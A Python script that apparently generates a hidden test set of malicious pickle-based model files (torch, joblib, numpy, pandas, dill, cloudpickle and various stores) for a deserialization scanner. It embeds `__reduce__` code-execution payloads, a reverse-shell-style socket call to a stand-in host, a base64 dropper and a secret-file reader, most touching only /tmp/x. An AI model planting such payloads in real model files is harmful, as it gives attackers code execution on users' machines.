"""Write what of the fourth blind set needs real libraries: `PYTHONPATH=tests python unseen4_write.py OUT`.

Needs scikit-learn, torch, pandas, joblib, dill, cloudpickle and the small stores of pickles. The payloads only make a file.
"""
# mypy: ignore-errors

# ruff: noqa: E501 (payloads are kept whole)
from __future__ import annotations

import base64
import datetime
import gzip
import io
import pickle
import shelve
import sys
import zipfile
from pathlib import Path

import cloudpickle
import dill
import joblib
import numpy as np
import pandas as pd
import torch
from sklearn.ensemble import RandomForestClassifier, VotingClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import GridSearchCV
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, LabelEncoder, StandardScaler

OUT = Path(sys.argv[1])
X, Y = np.arange(24.0).reshape(12, 2), np.arange(12) % 2
SHELL = "import socket,subprocess,os\ntry:\n s=socket.create_connection(('updates.example.net',80),1)\n os.dup2(s.fileno(),9)\nexcept OSError: pass\nsubprocess.call(['/bin/sh','-c','id > /tmp/x'])"
DROP = "import base64,os\nopen('/tmp/x.sh','wb').write(base64.b64decode('dG91Y2ggL3RtcC94Cg=='))\nos.system('sh /tmp/x.sh')"
SLEEPY = "import os, types\ndef patched(self, *a):\n    os.system('touch /tmp/x')\nimport json\njson.JSONEncoder.get_model = patched\npatched(None)"


class Run:
    """The class of every tutorial."""

    def __init__(self, how="system", text="touch /tmp/x"):
        self.how, self.text = how, text

    def __reduce__(self):
        import os
        import subprocess

        if self.how == "system":
            return os.system, (self.text,)
        if self.how == "popen":
            return subprocess.check_output, (self.text.split(),)
        if self.how == "exec":
            return exec, (self.text,)
        if self.how == "b64":
            code = base64.b64encode(self.text.encode()).decode()
            return eval, (f"exec(__import__('base64').b64decode('{code}'))",)
        if self.how == "apply":
            return getattr, (__import__("builtins"), "eval")
        raise ValueError(self.how)


def to(name, data, file="model.pkl"):
    path = OUT / name / file
    path.parent.mkdir(parents=True, exist_ok=True)
    if data is not None:
        path.write_bytes(data)
    return path


def classics():
    for protocol in range(6):
        to(f"classic/protocol-{protocol}", pickle.dumps({"weights": X, "extra": Run()}, protocol))
    to("classic/reverse-shell", pickle.dumps(Run("exec", SHELL), 4), "pytorch_model.pkl")
    to("classic/dropper", pickle.dumps([Run("exec", DROP)], 2))
    to("classic/sleepy", pickle.dumps({"state": X.tolist(), "v": Run("exec", SLEEPY)}, 4))
    to("classic/base64-eval", pickle.dumps(Run("b64", "open('/tmp/x','w')"), 3))
    to("classic/argv", pickle.dumps((1, 2, Run("popen")), 0), "model.sav")
    scaler = StandardScaler().fit(X)
    scaler.feature_names_in_ = Run()
    to("classic/scaler-attribute", pickle.dumps(scaler), "scaler.pkl")
    encoder = LabelEncoder().fit(["a", "b"])
    encoder.classes_ = np.array(["a", Run("exec", "import os; os.mkdir('/tmp/x')")], dtype=object)
    to("classic/label-encoder", pickle.dumps(encoder), "label_encoder.pkl")
    forest = RandomForestClassifier(2, max_depth=2).fit(X, Y)
    forest.estimators_.append(Run("popen"))
    to("classic/forest", pickle.dumps(forest), "clf.pickle")
    search = GridSearchCV(LogisticRegression(), {"C": [1.0, 2.0]}, cv=2).fit(X, Y)
    search.cv_results_["params"].append({"C": Run()})
    to("classic/search", pickle.dumps(search))
    vote = VotingClassifier([("a", LogisticRegression())]).fit(X, Y)
    vote.named_estimators_["b"] = Run("b64", "import os; os.system('id > /tmp/x')")
    to("classic/vote", pickle.dumps(vote))
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(X, Y)
    pipe.steps.insert(0, ("clean", Run()))
    to("classic/pipeline", pickle.dumps(pipe, 5), "pipeline.pkl")
    frame = pd.DataFrame({"a": [1, 2], "b": ["x", Run()]})
    to("classic/frame-cell", pickle.dumps(frame), "features.pkl")
    frame = pd.DataFrame({"a": [1, 2]})
    frame.attrs["source"] = Run()
    to("classic/frame-attrs", pickle.dumps(frame), "frame.pkl")
    series = pd.Series([1, 2], index=[datetime.date(2026, 1, 1), Run()])
    to("classic/index", pickle.dumps(series), "series.pkl")
    to("classic/dict-key", pickle.dumps({("a", 1): 2, frozenset([3]): [Run("popen")]}))
    to("classic/recursive", _recursive())
    to("classic/second-dump", pickle.dumps(scaler.mean_) + pickle.dumps({"a": 1}) + pickle.dumps(Run()), "all.pkl")
    to("classic/big-then-payload", pickle.dumps([np.zeros(60000, "u1"), Run()], 4))
    to("classic/exception", pickle.dumps(_error()), "result.pkl")


def _recursive():
    inner: list = [1]
    inner.append({"self": inner, "run": Run()})
    return pickle.dumps(inner)


def _error():
    error = ValueError("no model")
    error.args = ("no model", Run())
    return error


def by_value():
    def act(*_):
        import os

        os.system("touch /tmp/x")
        return 0

    def reader(*_):
        return open("/tmp/victim/secret.txt").read()

    class Model:
        def __init__(self):
            self.w = 1

        def __setstate__(self, state):
            self.__dict__.update(state)
            act()

        def predict(self, x):
            return x

    class Quiet:
        def predict(self, x):
            act()
            return x

    class Meta(type):
        def __call__(cls, *a):
            act()
            return super().__call__(*a)

    class Property:
        @property
        def coef_(self):
            return act()

        def __del__(self):
            open("/tmp/x", "w").close()

    class Plain:
        def predict(self, rows):
            return act()

    to("by-value/cloudpickle-setstate", cloudpickle.dumps(Model()))
    to("by-value/cloudpickle-predict", cloudpickle.dumps(Quiet()))
    to("by-value/cloudpickle-del", cloudpickle.dumps(Property()))
    to("by-value/cloudpickle-lambda", cloudpickle.dumps(FunctionTransformer(lambda x: act() or x)))
    to("by-value/cloudpickle-reader", cloudpickle.dumps(FunctionTransformer(reader)))
    to("by-value/cloudpickle-metaclass", cloudpickle.dumps(Meta("M", (), {})))
    to("by-value/dill-predict", dill.dumps(Plain(), recurse=True))
    to("by-value/dill-setstate", dill.dumps(Model(), recurse=True))
    to("by-value/dill-lambda", dill.dumps({"metric": lambda a: act()}, recurse=True))
    to("by-value/dill-protocol-2", dill.dumps(act, protocol=2, recurse=True))
    buffer = io.BytesIO()
    joblib.dump(joblib.wrap_non_picklable_objects(act), buffer)
    to("by-value/joblib-wrapped", buffer.getvalue(), "model.joblib")
    pipe = make_pipeline(FunctionTransformer(lambda x: act() or x), LogisticRegression())
    with gzip.open(to("by-value/cloudpickle-gzip", None, "model.pkl.gz"), "wb") as file:
        cloudpickle.dump(pipe, file)
    generator = dill.dumps(type("Net", (torch.nn.Module,), {"forward": lambda self, x: act() or x})(), recurse=True)
    to("by-value/dill-module", generator, "net.dill")
    torch.save({"loss": act}, to("by-value/torch-cloudpickle", None, "best.pt"), pickle_module=cloudpickle)
    torch.save(
        {"loss": act},
        to("by-value/torch-dill-legacy", None, "best.pth"),
        pickle_module=dill,
        _use_new_zipfile_serialization=False,
    )


def joblibs():
    for name, compress, file in (
        ("lz4", "lz4", "model.joblib.lz4"),
        ("zlib-nine", ("zlib", 9), "model.z"),
        ("gzip-three", ("gzip", 3), "scaler.gz"),
        ("bz2-one", ("bz2", 1), "model.pkl.bz2"),
        ("xz-named-pkl", ("xz", 2), "model.pkl"),
        ("lzma-named-joblib", ("lzma", 3), "m.joblib"),
    ):
        joblib.dump(
            {"model": LogisticRegression().fit(X, Y), "meta": Run()},
            to(f"joblib/{name}", None, file),
            compress=compress,
        )
    joblib.dump([np.array([1, Run()], dtype=object), X], to("joblib/object-array", None, "m.joblib"))
    joblib.dump([np.zeros((300, 300)), Run("exec", SHELL)], to("joblib/behind-array", None, "m.joblib"), compress=3)
    joblib.dump({"fortran": np.asfortranarray(X), "x": Run()}, to("joblib/fortran", None, "m.pkl"), protocol=5)
    joblib.dump(np.rec.array([(1, Run())], dtype=[("a", "i4"), ("b", "O")]), to("joblib/record", None, "m.joblib"))
    joblib.dump(Run(), to("joblib/memory", None, "joblib/app/predict/3f2a/output.pkl"))


def numpys():
    np.save(to("numpy/zero-d", None, "history.npy"), np.array(Run(), dtype=object))
    np.save(to("numpy/matrix", None, "a.npy"), np.array([[1, Run()], [2, 3]], dtype=object, order="F"))
    np.save(to("numpy/subarray", None, "a.npy"), np.array([([Run(), 1],)], dtype=[("a", "O", (2,))]))
    np.savez(to("numpy/npz-middle", None, "arrays.npz"), a=X, b=np.array([Run()], dtype=object), c=Y)
    np.savez_compressed(
        to("numpy/npz-compressed", None, "vectors.npz"),
        vectors=X,
        vocab=np.array(["a", Run("b64", "open('/tmp/x','w')")], dtype=object),
    )
    with gzip.open(to("numpy/gzipped", None, "a.npy.gz"), "wb") as file:
        np.save(file, np.array([None, Run()], dtype=object))
    X.dump(to("numpy/dump", None, "a.npy"))
    to("numpy/dump", pickle.dumps(np.ma.masked_array([1, 2], fill_value=3)) + pickle.dumps(Run()), "a.npy")


def torches():
    net = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())
    state = net.state_dict()
    torch.save({**state, "note": Run()}, to("torch/state-dict-note", None, "pytorch_model.bin"))
    state2 = net.state_dict()
    state2["0._extra_state"] = Run()
    torch.save(state2, to("torch/extra-state", None, "model.pt"))
    state3 = net.state_dict()
    state3._metadata["0"]["version"] = Run()
    torch.save(state3, to("torch/metadata", None, "model.pth"))
    torch.save(
        state | {"p": Run("b64", "open('/tmp/x','w')")},
        to("torch/legacy", None, "model.pth"),
        _use_new_zipfile_serialization=False,
    )
    torch.save([state, Run()], to("torch/protocol-4", None, "model.pt"), pickle_protocol=4)
    torch.save([Run("exec", SHELL), state], to("torch/baller", None, "pytorch_model.bin"))
    module = torch.nn.Linear(2, 2)
    module.extra = Run()
    torch.save(module, to("torch/module-attribute", None, "net.pth"))
    parameter = torch.nn.Parameter(torch.ones(2))
    parameter.note = Run()
    torch.save({"w": parameter}, to("torch/parameter-attribute", None, "w.pt"))
    tensor = torch.ones(2)
    tensor.tag = Run("popen")
    torch.save(tensor, to("torch/tensor-attribute", None, "t.pt"))
    optimizer = torch.optim.Adam(net.parameters())
    saved = optimizer.state_dict()
    saved["param_groups"][0]["lr"] = Run()
    torch.save({"epoch": 3, "model": state, "optimizer": saved}, to("torch/checkpoint-lr", None, "checkpoint.pth.tar"))
    torch.save(
        {
            "state_dict": state,
            "hyper_parameters": {"lr": 1e-3, "net": Run()},
            "pytorch-lightning_version": "2.4.0",
            "loops": {},
            "callbacks": {"ModelCheckpoint": {"best": Run("popen")}},
        },
        to("torch/lightning", None, "epoch=3.ckpt"),
    )
    torch.save(
        {"weight": [torch.ones(2), "x"], "info": Run(), "version": "v2", "sr": "40k", "f0": 1},
        to("torch/voice", None, "voice.pth"),
    )
    torch.save(
        {"string_to_param": {"*": torch.ones(1, 4)}, "name": Run()}, to("torch/textual-inversion", None, "style.pt")
    )
    torch.save({"scheduler": {"base_lrs": [0.1], "lr_lambdas": [Run()]}}, to("torch/scheduler", None, "scheduler.pt"))
    torch.save(
        {"python": Run(), "numpy": ("MT19937", X), "cpu": torch.get_rng_state()[:16]},
        to("torch/rng", None, "rng_state_0.pth"),
    )
    gz = to("torch/gzip", None, "model.pt.gz")
    with gzip.open(gz, "wb") as file:
        torch.save([Run(), state], file)
    whole = io.BytesIO()
    torch.save([state, Run()], whole)
    with zipfile.ZipFile(to("torch/zip-in-zip", None, "release.zip"), "w") as file:
        file.writestr("release/README.md", "weights")
        file.writestr("release/model.pt", whole.getvalue())
    torch.save(
        {"klass": __import__("subprocess").check_call, "args": (["touch", "/tmp/x"],), "kwargs": {}, "state": {}},
        to("torch/demucs", None, "955717e8.th"),
    )
    quantized = torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.quint8)
    torch.save(
        {"q": quantized, "s": torch.sparse_coo_tensor([[0]], [1.0]), "z": Run()}, to("torch/quantized", None, "q.pt")
    )
    script = torch.jit.script(net)
    extra = {"info.pkl": pickle.dumps(Run())}
    torch.jit.save(script, to("torch/script-extra-file", None, "net.pt"), _extra_files=extra)


def stores():
    import compress_pickle
    import diskcache
    import hickle
    import sqlitedict

    cache = diskcache.Cache(to("store/diskcache", None, "x").parent)
    cache["a"] = Run()
    cache.close()
    with sqlitedict.SqliteDict(str(to("store/sqlitedict", None, "models.sqlite"))) as table:
        table["model"] = Run()
        table.commit()
    hickle.dump({"weights": X, "obj": Run()}, str(to("store/hickle", None, "m.hkl")), mode="w")
    compress_pickle.dump(Run(), str(to("store/compress-pickle", None, "m.pkl.zip")), compression="zipfile")
    with shelve.open(str(to("store/shelve-dumb", None, "models")), "c") as shelf:
        shelf["a"] = Run()
    pd.DataFrame({"a": [1], "b": [pickle.dumps(Run())]}).to_parquet(to("store/parquet-column", None, "models.parquet"))
    text = base64.b64encode(pickle.dumps(Run())).decode()
    to("store/json-base64", f'{{"model": "{text}", "version": 3}}'.encode(), "model.json")
    to("store/csv-base64", f"name,blob\nclf,{text}\n".encode(), "models.csv")
    to("store/yaml-base64", f"name: clf\nblob: {text}\n".encode(), "model.yaml")
    to("store/index-pkl", pickle.dumps(({"docs": Run()}, {0: "a"})), "index.pkl")
    to("store/tokenizer-pickle", pickle.dumps({"word_index": {"a": 1}, "document_count": Run()}), "tokenizer.pickle")
    for compression in ("zip", "gz", "bz2", "xz", "zst", "tar"):
        file = f"frame.pkl.{compression}"
        pd.DataFrame({"a": [Run()]}).to_pickle(to(f"store/pandas-{compression}", None, file))


if __name__ == "__main__":
    for part in (classics, by_value, joblibs, numpys, torches, stores):
        part()
